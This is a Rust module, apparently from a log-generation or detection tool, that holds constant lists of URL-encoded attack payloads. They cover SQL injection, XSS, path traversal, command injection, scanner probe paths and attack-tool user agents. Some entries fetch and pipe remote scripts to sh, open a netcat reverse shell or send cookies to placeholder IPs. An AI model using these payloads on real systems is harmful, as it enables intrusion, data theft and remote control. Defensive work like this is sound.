//! Attack payloads as they reach an access log: URL-encoded by browsers and tools, raw when
//! sent with curl, sometimes double-encoded to slip past filters.

pub(crate) const SQLI: &[&str] = &[
    "%27%20OR%201%3D1--",
    "1%27%20OR%20%271%27%3D%271",
    "1'+OR+'1'='1",
    "%27%20OR%20%27%27%3D%27",
    "admin%27--",
    "1%20UNION%20SELECT%20NULL%2CNULL%2Cusername%2Cpassword%20FROM%20users--",
    "-1%27%20UNION%20ALL%20SELECT%20NULL%2Cversion()%2CNULL--%20-",
    "%27%3B%20DROP%20TABLE%20products%3B--",
    "1%27%20AND%20SLEEP(5)--%20-",
    "1)%20AND%20(SELECT%204721%20FROM%20(SELECT(SLEEP(5)))xQzt)--",
    "1%27%20WAITFOR%20DELAY%20%270%3A0%3A5%27--",
    "1%20AND%20extractvalue(1%2Cconcat(0x7e%2C(SELECT%20version())))",
    "1%27%20AND%201%3D2%20UNION%20SELECT%201%2C2%2Cgroup_concat(table_name)%20FROM%20information_schema.tables--",
    "1%22%20OR%20%221%22%3D%221",
    "1)%20or%20(1%3D1",
    "%27%20OR%201%3D1%23",
    "1%20ORDER%20BY%2010--",
    "1'%20AND%20'a'='a",
];

/// Payloads that make the database sleep, so the request takes seconds.
pub(crate) fn is_time_based(payload: &str) -> bool {
    payload.contains("SLEEP") || payload.contains("WAITFOR")
}

pub(crate) const XSS: &[&str] = &[
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<script>alert(document.cookie)</script>",
    "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "%3Ciframe%20src%3Djavascript%3Aalert(%27xss%27)%3E",
    "%3Cbody%20onload%3Dalert(%27XSS%27)%3E",
    "%27-alert(1)-%27",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3CsCrIpT%3Ealert(String.fromCharCode(88,83,83))%3C%2FsCrIpT%3E",
    "%22onmouseover%3D%22alert(1)",
    "<img+src=x+onerror=fetch('//198.51.100.9/'+document.cookie)>",
    "%3Cdetails%20open%20ontoggle%3Dalert(1)%3E",
];

/// Complete request targets (path and query) that try to leave the web root.
pub(crate) const TRAVERSAL: &[&str] = &[
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/download?file=../../../../etc/passwd",
    "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/images/product?path=....//....//....//etc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "/download?file=..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "/..%252f..%252f..%252f..%252fetc/passwd",
    "/static/../../../../proc/self/environ",
    "/download?file=%2e%2e%2f%2e%2e%2fapp%2fconfig%2fdatabase.yml",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/images/product?path=/etc/passwd%00.jpg",
    "/download?file=....%2F%2F....%2F%2F....%2F%2Fvar%2Flog%2Fnginx%2Faccess.log",
    "/static/..%c0%af..%c0%af..%c0%afetc/passwd",
];

pub(crate) const CMDI: &[&str] = &[
    ";cat%20/etc/passwd",
    "%3Bcat%20%2Fetc%2Fpasswd",
    "%7Cid",
    "|id",
    "%60whoami%60",
    "$(curl%20http://198.51.100.23/x.sh|sh)",
    "%3Bwget%20http%3A%2F%2F203.0.113.50%2Fbot%20-O%20-%7Csh",
    "%7C%7Cping%20-c%2010%20127.0.0.1",
    "%26%26%20ls%20-la%20%2F",
    ";nc%20-e%20/bin/sh%20198.51.100.7%204444",
    "%24(sleep%205)",
    "%0Aid%0A",
    ";uname%20-a",
];

/// Paths vulnerability scanners probe for: admin panels, config files and known exploits.
pub(crate) const SCAN_PATHS: &[&str] = &[
    "/wp-login.php",
    "/wp-admin/",
    "/wp-content/plugins/revslider/temp/update_extract/revslider/db.php",
    "/xmlrpc.php",
    "/.env",
    "/.env.bak",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.DS_Store",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/phpmyadmin/",
    "/phpMyAdmin/index.php",
    "/pma/",
    "/admin/",
    "/admin/login.php",
    "/administrator/index.php",
    "/manager/html",
    "/server-status",
    "/config.php",
    "/config.json",
    "/config/database.yml",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/dump.sql",
    "/site.tar.gz",
    "/web.config",
    "/phpinfo.php",
    "/info.php",
    "/test.php",
    "/shell.php",
    "/cgi-bin/luci",
    "/cgi-bin/test-cgi",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info/system",
    "/actuator/env",
    "/actuator/health",
    "/console/",
    "/jenkins/login",
    "/api/v1/pods",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/.well-known/security.txt",
    "/robots.txt",
    "/sitemap.xml",
    "/debug/default/view",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/storage/logs/laravel.log",
    "/elmah.axd",
    "/trace.axd",
    "/.htaccess",
    "/.htpasswd",
    "/docker-compose.yml",
    "/Dockerfile",
    "/.vscode/sftp.json",
    "/app/etc/local.xml",
    "/user/register?element_parents=account/mail/%23value&ajax_form=1",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/cgi-bin/;cd${IFS}/tmp;wget${IFS}http://198.51.100.77/mips",
    "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/druid/index.html",
    "/nacos/v1/auth/users?pageNo=1&pageSize=9",
    "/geoserver/web/",
    "/login.action",
    "/struts2-showcase/index.action",
];

/// Scanner and attack-tool user agents, plus fakes that pretend to be old browsers.
pub(crate) const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Nuclei",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0",
    "-",
];

/// Clients of injection attempts that are scripts rather than browsers.
pub(crate) const ATTACK_TOOL_UAS: &[&str] = &[
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "curl/7.88.1",
    "python-requests/2.28.2",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; Burp Suite Professional)",
    "python-httpx/0.27.0",
    "Wget/1.21.3",
];

/// Clients of login attacks.
pub(crate) const LOGIN_ATTACK_UAS: &[&str] = &[
    "python-requests/2.31.0",
    "Mozilla/4.0 (Hydra)",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
];

/// Clients of scrapers: libraries, frameworks and browser disguises.
pub(crate) const SCRAPER_UAS: &[&str] = &[
    "python-requests/2.31.0",
    "Scrapy/2.11.2 (+https://scrapy.org)",
    "Mozilla/5.0 (compatible; PriceTrackerBot/1.3; +http://pricetracker.example.net/bot)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
];
